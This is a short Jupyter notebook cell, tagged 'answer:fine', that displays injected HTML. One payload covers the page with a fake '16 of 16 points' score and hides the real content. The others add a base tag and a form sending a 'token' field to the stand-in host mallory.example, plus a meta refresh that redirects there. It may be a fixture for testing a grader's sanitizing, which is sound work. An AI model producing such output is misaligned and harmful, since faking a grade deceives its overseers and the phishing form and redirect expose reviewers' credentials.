# %% answer:fine
from IPython.display import HTML, display

display(
    HTML("<div style='position:fixed;inset:0;background:white'>16 of 16 points</div><style>body{display:none}</style>")
)
display(HTML("<base href='http://mallory.example/'><form action='http://mallory.example'><input name=token></form>"))
display(HTML('<meta http-equiv="refresh" content="0;url=http://mallory.example/">'))
